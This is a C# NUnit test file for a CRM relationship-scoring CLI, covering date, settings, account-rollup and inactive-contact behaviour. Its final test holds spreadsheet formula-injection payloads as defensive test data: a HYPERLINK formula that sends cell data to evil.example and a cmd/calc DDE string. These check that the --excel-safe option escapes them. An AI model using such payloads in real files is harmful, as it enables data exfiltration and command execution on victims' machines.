using System.Linq;
using System.Text.RegularExpressions;
using CrmRelationship.Tests.Shared;
using NUnit.Framework;

namespace CrmRelationship.Deploy.Tests;

/// <summary>--as-of, --settings and --accounts change what is scored as documented.</summary>
[TestFixture]
public sealed class ScoringOptionTests
{
    [TestCase("2026-11-24")]
    [TestCase("2027-03-01")]
    public void AsOf_IsTheDueDateWhenNoViewWasCaptured(string asOf)
    {
        using var book = new TestBook();
        var contacts = book.Contacts(TestBook.Contact("c1", "Ann Lee", "a1", observed: "Buys from us"));

        var run = TestBook.Run("score", "--contacts", contacts, "--as-of", asOf, "--out", book.Out);

        Assert.That(run.ExitCode, Is.EqualTo(0));
        Assert.That(book.ContactsTable()[0]["rel_nextfeedbackdue"], Is.EqualTo(asOf));
    }

    [Test]
    public void AsOf_DecidesWhatCountsAsOverdue()
    {
        using var book = new TestBook();
        var contacts = book.Contacts(TestBook.Contact("c1", "Ann Lee", "a1", observed: "Buys from us", view: "Service", viewDate: "2026-09-01"));

        var before = TestBook.Run("score", "--contacts", contacts, "--as-of", "2026-11-30", "--out", book.Out);
        var after = TestBook.Run("score", "--contacts", contacts, "--as-of", "2026-12-01", "--out", book.Out);

        Assert.That(before.Output, Does.Match(@"Feedback overdue \(due on or before 2026-11-30\)\s*│\s*0"));
        Assert.That(after.Output, Does.Match(@"Feedback overdue \(due on or before 2026-12-01\)\s*│\s*1"));
    }

    [Test]
    public void SettingsOverride_ChangesTheMatrixRow()
    {
        using var book = new TestBook();
        var contacts = book.Contacts(TestBook.Contact("c1", "Ann Lee", "a1", relationship: "No", power: "Low", perception: "Detractor", activity: "Passive"));
        var settings = book.WriteLines("settings.json", new[] { "{ \"matrix\": { \"No/Low/Detractor/Passive\": \"Moderate risk, monitor perception\" } }" });

        var defaults = TestBook.Run("score", "--contacts", contacts, "--as-of", "2026-11-24", "--out", book.Out);
        var defaultAction = book.ContactsTable()[0]["rel_recommendedaction"];
        var overridden = book.Score(contacts, null, "--settings", settings);
        var row = book.ContactsTable()[0];

        Assert.Multiple(() =>
        {
            Assert.That(defaults.ExitCode, Is.EqualTo(0));
            Assert.That(overridden.ExitCode, Is.EqualTo(0));
            Assert.That(defaultAction, Is.EqualTo("Low risk, move on"));
            Assert.That(row["rel_recommendedaction"], Is.EqualTo("Moderate risk, monitor perception"));
            Assert.That(row["rel_scoreexplanation"], Does.Contain("Your administrator set this row of the matrix."));
            Assert.That(book.AccountsTable()[0]["rel_riskcontacts"], Is.EqualTo("1"));
        });
    }

    [Test]
    public void SettingsHighPowerWeight_AppliesToTheRollup()
    {
        using var book = new TestBook();
        var contacts = book.Contacts(
            TestBook.Contact("c1", "Ann Lee", "a1", relationship: "Yes", perception: "Advocate", activity: "Active", power: "High", observed: "Buys from us"),
            TestBook.Contact("c2", "Bo Park", "a1", relationship: "Yes", perception: "Advocate", activity: "Active", power: "Low", observed: "Buys from us; Relies on our support"),
            TestBook.Contact("c3", "Cai Moss", "a1", relationship: "Yes", perception: "Advocate", activity: "Active", power: "Low", observed: "Buys from us; Relies on our support"));
        var settings = book.WriteLines("settings.json", new[] { "{ \"highPowerWeight\": 1 }" });

        book.Score(contacts);
        var byDefault = book.AccountsTable()[0]["rel_relationshiplevel"];
        book.Score(contacts, null, "--settings", settings);
        var equalWeights = book.AccountsTable()[0]["rel_relationshiplevel"];

        Assert.That(byDefault, Is.EqualTo("Transactional"));
        Assert.That(equalWeights, Is.EqualTo("Service"));
    }

    [Test]
    public void NoAccountsFile_AccountsAreTheDistinctParents()
    {
        using var book = new TestBook();
        var contacts = book.Contacts(
            TestBook.Contact("c1", "Ann Lee", "acc-B"),
            TestBook.Contact("c2", "Bo Park", "acc-A"),
            TestBook.Contact("c3", "Cai Moss", "ACC-B"),
            TestBook.Contact("c4", "Di Roe", ""),
            TestBook.Contact("c5", "Ed Fox", "acc-C", state: "Inactive"));

        var run = book.Score(contacts);

        var accounts = book.AccountsTable();
        Assert.Multiple(() =>
        {
            Assert.That(run.ExitCode, Is.EqualTo(0));
            Assert.That(TestCsv.ReadRecords(book.AccountsOut)[0].Take(5), Is.EqualTo(TestBook.AccountHeader.Split(',')));
            Assert.That(accounts.Select(a => a["accountid"]), Is.EqualTo(new[] { "acc-B", "acc-A", "acc-C" }));
            Assert.That(accounts.Select(a => a["name"]), Is.All.Empty);
            Assert.That(
                accounts.Select(a => Regex.Match(a["rel_scoreexplanation"], @"Contacts: (\d+) active,").Groups[1].Value),
                Is.EqualTo(new[] { "2", "1", "0" }));
            Assert.That(accounts[0]["rel_scoreexplanation"], Does.Contain("2 active"));
        });
    }

    [Test]
    public void InactiveContact_ScoredButNotRolledUp()
    {
        using var book = new TestBook();
        var contacts = book.Contacts(
            TestBook.Contact("c1", "Ann Lee", "a1", relationship: "Yes", power: "High", perception: "Advocate", activity: "Active"),
            TestBook.Contact("c2", "Bo Park", "a1", state: "Inactive", relationship: "Yes", power: "High", perception: "Detractor", activity: "Active"));

        book.Score(contacts);

        var scored = book.ContactsTable();
        var account = book.AccountsTable().Single();
        Assert.Multiple(() =>
        {
            Assert.That(scored[1]["rel_recommendedaction"], Is.EqualTo("High risk, improve perception"));
            Assert.That(account["rel_assessedcontacts"], Is.EqualTo("1"));
            Assert.That(account["rel_riskcontacts"], Is.EqualTo("0"));
            Assert.That(account["rel_keycontactid"], Is.EqualTo("c1"));
        });
    }

    [Test]
    public void ParentNotInAccountsFile_ContactScoredAndCounted()
    {
        using var book = new TestBook();
        var accounts = book.Accounts(TestBook.Line("a1", "Acme", "", "", ""));
        var contacts = book.Contacts(
            TestBook.Contact("c1", "Ann Lee", "a1", relationship: "Yes"),
            TestBook.Contact("c2", "Bo Park", "zz9", relationship: "Yes"));

        var run = book.Score(contacts, accounts);

        Assert.That(run.ExitCode, Is.EqualTo(0));
        Assert.That(book.ContactsTable(), Has.Count.EqualTo(2));
        Assert.That(book.AccountsTable().Select(a => a["accountid"]), Is.EqualTo(new[] { "a1" }));
        Assert.That(run.Output, Does.Match(@"Parent account not in the accounts file \(not rolled up\)\s*│\s*1"));
    }

    [Test]
    public void AccountOwnView_DrivesTheAccountGap()
    {
        using var book = new TestBook();
        var accounts = book.Accounts(TestBook.Line("a1", "Acme", "Advisor", "2026-06-30", "Half-yearly"));
        var contacts = book.Contacts(TestBook.Contact("c1", "Ann Lee", "a1", relationship: "Yes", perception: "Advocate", activity: "Active", power: "Low", observed: "Buys from us;Relies on our support"));

        book.Score(contacts, accounts);

        var account = book.AccountsTable().Single();
        Assert.That(account["rel_expectationgap"], Is.EqualTo("-2"));
        Assert.That(account["rel_expectationalignment"], Is.EqualTo("Underestimated"));
        Assert.That(account["rel_nextfeedbackdue"], Is.EqualTo("2026-12-30"));
    }

    [Test]
    public void ExcelSafe_TextCellsThatStartLikeAFormulaGetAQuoteNumbersDoNot()
    {
        // OWASP: a cell starting with =, +, -, @, tab or carriage return is a formula to a spreadsheet.
        using var book = new TestBook();
        var names = new[] { "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555", "-2+3", "\tTab", "\rReturn", "Ann Lee" };
        var rows = names.Select((n, i) => TestBook.Line("c" + i, n, "a1", "", "", "Yes", "High", "Advocate", "Active", "Buys from us", "", "Partner", "2026-10-01", "", "=1+1"));
        var contacts = book.WriteLines("c.csv", [TestBook.ContactHeader + ",notes", .. rows, TestBook.Line("=bad", "Bo Park", "a1", "", "", "", "", "Sure")]);

        var plain = book.Score(contacts);
        var plainNames = book.ContactsTable().Select(r => r["fullname"]).ToList();
        var safe = book.Score(contacts, null, "--excel-safe");
        var scored = book.ContactsTable();
        var rejected = book.RejectedTable();

        Assert.Multiple(() =>
        {
            Assert.That(plain.ExitCode, Is.EqualTo(2), plain.Error);
            Assert.That(plainNames, Is.EqualTo(names), "off by default: the output round-trips into Dataverse");
            Assert.That(safe.ExitCode, Is.EqualTo(2), safe.Error);
            Assert.That(scored.Select(r => r["fullname"]), Is.EqualTo(names.Select(n => n == "Ann Lee" ? n : "'" + n)));
            Assert.That(scored.Select(r => r["notes"]).Distinct(), Is.EqualTo(new[] { "'=1+1" }), "a column carried through is text too");
            Assert.That(scored.Select(r => r["rel_expectationgap"]).Distinct(), Is.EqualTo(new[] { "-2" }), "a computed number is not text");
            Assert.That(scored.Select(r => r["rel_customerviewdate"]).Distinct(), Is.EqualTo(new[] { "2026-10-01" }));
            Assert.That(rejected.Select(r => r["id"]), Is.EqualTo(new[] { "'=bad" }), "rejected.csv too");
        });
    }
}
